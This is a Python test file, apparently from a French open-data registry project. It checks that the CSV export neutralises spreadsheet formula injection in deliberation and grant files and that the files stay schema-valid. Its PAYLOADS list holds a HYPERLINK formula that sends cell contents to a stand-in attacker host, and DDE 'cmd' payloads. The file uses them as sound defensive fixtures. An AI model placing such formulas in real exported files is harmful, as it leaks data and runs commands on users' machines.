"""CSV injection: a cell a spreadsheet would execute is written as text, and the file stays valid
against the official schemas (frictionless on the file and the schemas' own checks)."""

import csv
import dataclasses

import pytest

from registre.opendata.cells import neutralise, restore
from registre.opendata.reader import read_scdl
from registre.opendata.validate import validate_file
from registre.opendata.writer import export_csv

from .test_export import grant

PAYLOADS = [
    '=HYPERLINK("http://attaquant.example/?"&A1;"Cliquez")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=1+1",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_formula_becomes_text(payload):
    assert neutralise(payload) == "'" + payload
    assert restore(neutralise(payload)) == payload


@pytest.mark.parametrize("value", ["-12.5", "+33 3 81 61 50 00", "-", "2021-01-01/2021-12-31", "Objet"])
def test_numbers_phones_and_plain_text_stay_as_they_are(value):
    assert neutralise(value) == value


@pytest.mark.parametrize("value", ["\tx", "\r=1", "- Subvention annuelle"])
def test_tab_carriage_return_and_dash_led_text_are_neutralised(value):
    assert neutralise(value).startswith("'")


def _cells(path):
    with open(path, encoding="utf-8", newline="") as handle:
        return list(csv.DictReader(handle))


def test_the_deliberations_file_neutralises_the_title_and_stays_valid(tmp_path, example_record):
    record = dataclasses.replace(example_record, object=PAYLOADS[0], authority_name="@Commune")
    out = tmp_path / "deliberations.csv"
    export_csv("deliberations", [record], out)
    row = _cells(out)[0]
    assert row["DELIB_OBJET"] == "'" + PAYLOADS[0]
    assert row["COLL_NOM"] == "'@Commune"
    assert row["VOTE_POUR"] == "104"
    assert validate_file("deliberations", out) == []


def test_the_lenient_export_neutralises_the_cells_too(tmp_path, example_record):
    """The portal's export (skip_invalid: a failing row is left out, not blocking) writes the same cells."""
    record = dataclasses.replace(example_record, object=PAYLOADS[0], authority_name="@Commune")
    out = tmp_path / "deliberations.csv"
    result = export_csv("deliberations", [record], out, skip_invalid=True)
    row = _cells(out)[0]
    assert (
        result.left_out == () and row["DELIB_OBJET"] == "'" + PAYLOADS[0] and row["COLL_NOM"] == "'@Commune"
    )
    assert validate_file("deliberations", out) == []


def test_the_grants_file_neutralises_text_keeps_numbers_and_stays_valid(tmp_path):
    records = [
        grant(1, beneficiary_name=PAYLOADS[1], object=PAYLOADS[2], aid_scheme=PAYLOADS[3]),
        grant(2, decision_reference="=1+1"),
    ]
    out = tmp_path / "subventions.csv"
    export_csv("subventions", records, out)
    first, second = _cells(out)
    assert first["nomBeneficiaire"] == "'" + PAYLOADS[1]
    assert first["objet"] == "'" + PAYLOADS[2]
    assert first["dispositifAide"] == "'" + PAYLOADS[3]
    assert first["montant"] == "45000" and first["dateConvention"] == "2021-10-20"
    assert second["referenceDecision"] == "'=1+1"
    assert validate_file("subventions", out) == []


def test_reading_the_file_back_gives_the_original_text(tmp_path):
    out = tmp_path / "subventions.csv"
    export_csv("subventions", [grant(1, object=PAYLOADS[0])], out)
    imported = read_scdl(out)
    assert [row.record.object for row in imported.rows] == [PAYLOADS[0]]


def test_a_full_length_object_is_cut_rather_than_blocking_the_file(tmp_path):
    long_formula = "=" + "A" * 255  # 256 characters: the limit of « objet »
    out = tmp_path / "subventions.csv"
    export_csv("subventions", [grant(1, object=long_formula)], out)
    cell = _cells(out)[0]["objet"]
    assert cell.startswith("'=") and cell.endswith("…") and len(cell) == 256
    assert validate_file("subventions", out) == []
